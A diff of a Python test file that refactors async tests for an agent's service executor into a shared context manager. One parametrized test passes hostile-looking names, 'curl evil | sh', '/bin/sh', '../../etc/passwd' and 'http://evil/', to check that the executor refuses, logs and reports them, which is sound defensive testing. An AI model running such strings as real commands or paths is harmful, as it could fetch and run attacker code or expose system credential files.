@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from contextlib import asynccontextmanager
 from typing import TYPE_CHECKING
 
 import anyio
@@ -12,13 +13,15 @@ from msgspec.structs import replace
 
 from agent.decisions.shared import ItemReport, ItemsReported, Step, Want
 from agent.run import executor as executor_module
-from agent.run.executor import Executor
+from support.executing import executing
 
 if TYPE_CHECKING:
-    from collections.abc import Awaitable, Callable
+    from collections.abc import AsyncIterator
 
     from agent.run.executor import Clear, OnProgress, Runner
+    from support.executing import Executing
 
+pytestmark = pytest.mark.anyio
 NAMES = ("data", "retriever")
 
 
@@ -67,52 +70,42 @@ class Things:
     async def is_gone(self, name: str) -> None:
         """Let nothing be left of a thing any more."""
         self.leaves.discard(name)
-        self._news.set()
-        self._news = anyio.Event()
-        await anyio.wait_all_tasks_blocked()
+        await self._wake()
 
     async def end(self, name: str, failure: str) -> None:
         """Let a thing end."""
         self._ends[name] = failure
+        await self._wake()
+
+    async def _wake(self) -> None:
         self._news.set()
         self._news = anyio.Event()
         await anyio.wait_all_tasks_blocked()
 
 
-def story(tell: Callable[[Executor, Things, list[ItemsReported]], Awaitable[None]]) -> None:
-    """Run a story with an executor, which is closed at its end."""
-    things, sent = Things(), list[ItemsReported]()
-
-    async def scenario() -> None:
-        with anyio.fail_after(20):
-            async with anyio.create_task_group() as tasks:
-                executor = Executor(tasks, things.runner_of, sent.append, things.clear_of)
-                await tell(executor, things, sent)
-                await executor.close()
-                assert things.alive == []
-
-    anyio.run(scenario)
+@asynccontextmanager
+async def story() -> AsyncIterator[tuple[Executing, Things]]:
+    """Have an executor with such things, of which none is left at its end."""
+    things = Things()
+    async with executing(things.runner_of, things.clear_of) as there:
+        yield there, things
+    assert things.alive == []
 
 
-def test_a_service_from_its_start_to_its_next_generation() -> None:
+async def test_a_service_from_its_start_to_its_next_generation() -> None:
     """Each change is reported, the last end too; a generation starts once."""
-
-    async def tell(executor: Executor, things: Things, sent: list[ItemsReported]) -> None:
-        executor.apply({"retriever": Want()})
-        await anyio.wait_all_tasks_blocked()
+    async with story() as (there, things):
+        await there.wants({"retriever": Want()})
         things.says["retriever"](Step.PENDING, "connection refused")
         things.says["retriever"](Step.READY, "")
-        executor.apply({"retriever": Want()})
-        await anyio.wait_all_tasks_blocked()
+        await there.wants({"retriever": Want()})
         assert things.alive == ["retriever"]
         await things.end("retriever", "exit code 1")
-        executor.apply({"retriever": Want()})
-        await anyio.wait_all_tasks_blocked()
+        await there.wants({"retriever": Want()})
         assert things.began == ["retriever"]
-        executor.apply({"retriever": Want(2)})
-        await anyio.wait_all_tasks_blocked()
+        await there.wants({"retriever": Want(2)})
         assert things.began == ["retriever"] * 2
-        assert [one.items for one in sent] == [
+        assert [one.items for one in there.sent] == [
             (ItemReport("retriever", Step.PENDING, "", 1, is_running=True),),
             (ItemReport("retriever", Step.PENDING, "connection refused", 1, is_running=True),),
             (ItemReport("retriever", Step.READY, "", 1, is_running=True),),
@@ -120,123 +113,85 @@ def test_a_service_from_its_start_to_its_next_generation() -> None:
             (ItemReport("retriever", Step.PENDING, "", 2, is_running=True),),
         ]
 
-    story(tell)
 
-
-def test_a_later_generation_waits_for_the_end_of_the_former() -> None:
+async def test_a_later_generation_waits_for_the_end_of_the_former() -> None:
     """What is stopped keeps its port until nothing is left of it."""
-
-    async def tell(executor: Executor, things: Things, sent: list[ItemsReported]) -> None:
-        executor.apply({"retriever": Want()})
-        await anyio.wait_all_tasks_blocked()
-        executor.apply({"retriever": Want(3)})
+    async with story() as (there, things):
+        await there.wants({"retriever": Want()})
+        there.executor.apply({"retriever": Want(3)})
         assert things.alive == ["retriever"]
         await anyio.wait_all_tasks_blocked()
         assert things.began == ["retriever"] * 2
-        (stopped,) = sent[1].items
+        (stopped,) = there.sent[1].items
         assert (stopped.step, stopped.was_stopped, stopped.generation) == (Step.LOST, True, 1)
-        (again,) = sent[2].items
+        (again,) = there.sent[2].items
         assert (again.is_running, again.generation) == (True, 3)
 
-    story(tell)
 
-
-def test_an_end_is_reported_at_once_and_the_next_start_waits_until_nothing_is_left() -> None:
+async def test_an_end_is_reported_at_once_and_the_next_start_waits_until_nothing_is_left() -> None:
     """Decisions about a loss need the end, a start needs that it is over."""
-
-    async def tell(executor: Executor, things: Things, sent: list[ItemsReported]) -> None:
+    async with story() as (there, things):
         things.leaves.add("retriever")
-        executor.apply({"retriever": Want()})
-        await anyio.wait_all_tasks_blocked()
+        await there.wants({"retriever": Want()})
         await things.end("retriever", "exit code 1")
-        executor.apply({"retriever": Want(2)})
-        await anyio.wait_all_tasks_blocked()
+        await there.wants({"retriever": Want(2)})
         ended = ItemReport("retriever", Step.LOST, "exit code 1", is_running=True)
         doubted = replace(ended, doubt="a process cannot be ended")
-        assert [item for one in sent[-2:] for item in one.items] == [ended, doubted]
+        assert [item for one in there.sent[-2:] for item in one.items] == [ended, doubted]
         await things.is_gone("retriever")
-        assert sent[-2].items == (replace(doubted, is_running=False),)
-        assert sent[-1].items == (
-            ItemReport("retriever", Step.PENDING, generation=2, is_running=True),
-        )
-
-    story(tell)
+        assert there.sent[-2].items == (replace(doubted, is_running=False),)
+        again = ItemReport("retriever", Step.PENDING, generation=2, is_running=True)
+        assert there.sent[-1].items == (again,)
 
 
-def test_the_end_of_the_node_does_not_wait_for_what_is_left() -> None:
+async def test_the_end_of_the_node_does_not_wait_for_what_is_left() -> None:
     """It ends with the agent, as all descendants do."""
-
-    async def tell(executor: Executor, things: Things, sent: list[ItemsReported]) -> None:
+    async with story() as (there, things):
         things.leaves = {*NAMES}
-        executor.apply({"data": Want(), "retriever": Want()})
-        await anyio.wait_all_tasks_blocked()
+        await there.wants({"data": Want(), "retriever": Want()})
         await things.end("data", "exit code 1")
-        await executor.close()
-        assert not any(item.is_running for item in sent[-1].items)
-
-    story(tell)
+        await there.executor.close()
+        assert not any(item.is_running for item in there.sent[-1].items)
 
 
-def test_what_is_wanted_no_more_ends_and_its_report_stays() -> None:
+async def test_what_is_wanted_no_more_ends_and_its_report_stays() -> None:
     """A step that is done is ready, and so reported as long as the agent runs."""
-
-    async def tell(executor: Executor, things: Things, sent: list[ItemsReported]) -> None:
-        executor.apply({"data": Want(), "retriever": Want()})
-        await anyio.wait_all_tasks_blocked()
+    async with story() as (there, things):
+        await there.wants({"data": Want(), "retriever": Want()})
         await things.end("data", "")
-        executor.apply({})
-        await anyio.wait_all_tasks_blocked()
+        await there.wants({})
         assert things.alive == []
-        assert [(item.name, item.step) for item in sent[-1].items] == [
-            ("data", Step.READY),
-            ("retriever", Step.LOST),
-        ]
-
-    story(tell)
+        steps = [(item.name, item.step) for item in there.sent[-1].items]
+        assert steps == [("data", Step.READY), ("retriever", Step.LOST)]
 
 
-def test_what_is_to_be_over_ends_or_never_begins() -> None:
+async def test_what_is_to_be_over_ends_or_never_begins() -> None:
     """Its end is reported, also where it had not begun: the head waits for it."""
-
-    async def tell(executor: Executor, things: Things, sent: list[ItemsReported]) -> None:
-        executor.apply({"retriever": Want()})
-        await anyio.wait_all_tasks_blocked()
-        executor.apply({"retriever": Want(is_over=True), "data": Want(3, is_over=True)})
-        await anyio.wait_all_tasks_blocked()
+    async with story() as (there, things):
+        await there.wants({"retriever": Want()})
+        await there.wants({"retriever": Want(is_over=True), "data": Want(3, is_over=True)})
         assert things.began == ["retriever"]
-        assert [(item.name, item.generation) for item in sent[-1].items] == [
-            ("retriever", 1),
-            ("data", 3),
-        ]
-        for item in sent[-1].items:
+        items = there.sent[-1].items
+        assert [(item.name, item.generation) for item in items] == [("retriever", 1), ("data", 3)]
+        for item in items:
             assert (item.step, item.was_stopped, item.is_running) == (Step.LOST, True, False)
-
-    story(tell)
 
 
 @pytest.mark.parametrize(
-    "name",
-    ["curl evil | sh", "/bin/sh", "../../etc/passwd", "http://evil/", "", "RETRIEVER"],
+    "name", ["curl evil | sh", "/bin/sh", "../../etc/passwd", "http://evil/", "", "RETRIEVER"]
 )
-def test_whoever_answers_as_the_head_can_run_nothing_else(
+async def test_whoever_answers_as_the_head_can_run_nothing_else(
     name: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """A name that is not in this node's plan is refused, logged once, and reported."""
     said: list[str] = []
     monkeypatch.setattr(executor_module, "say", lambda line, _level: said.append(line))
-
-    async def tell(executor: Executor, things: Things, sent: list[ItemsReported]) -> None:
-        executor.apply({name: Want()})
-        executor.apply({name: Want()})
-        await anyio.wait_all_tasks_blocked()
+    async with story() as (there, things):
+        there.executor.apply({name: Want()})
+        await there.wants({name: Want()})
         assert things.began == []
-        (item,) = sent[-1].items
-        assert (item.step, item.evidence) == (
-            Step.LOST,
-            f"this node's plan has no {name!r} to run",
-        )
-
-    story(tell)
+        refused = (Step.LOST, f"this node's plan has no {name!r} to run")
+        assert (there.item.step, there.item.evidence) == refused
     (line,) = said
     assert line.startswith("what the head wants is refused")
 
@@ -246,15 +201,15 @@ ENDS = st.tuples(st.sampled_from(NAMES), st.sampled_from(["", "exit code 1"]))
 
 
 @given(st.lists(st.one_of(WANTS, ENDS)), WANTS)
-def test_any_history_ends_in_what_is_wanted_last(
+async def test_any_history_ends_in_what_is_wanted_last(
     history: list[dict[str, Want] | tuple[str, str]], last: dict[str, Want]
 ) -> None:
     """No generation starts twice or beside another; repeated and old messages change nothing."""
-
-    async def tell(executor: Executor, things: Things, sent: list[ItemsReported]) -> None:
+    async with story() as (there, things):
+        sent = there.sent
         for one in (*history, last, last):
             if isinstance(one, dict):
-                executor.apply(one)
+                there.executor.apply(one)
             else:
                 await things.end(*one)
 
@@ -274,5 +229,3 @@ def test_any_history_ends_in_what_is_wanted_last(
             if item.is_running and item not in former.items and item.step is Step.PENDING
         ]
         assert len(starts) == len({*starts})
-
-    story(tell)
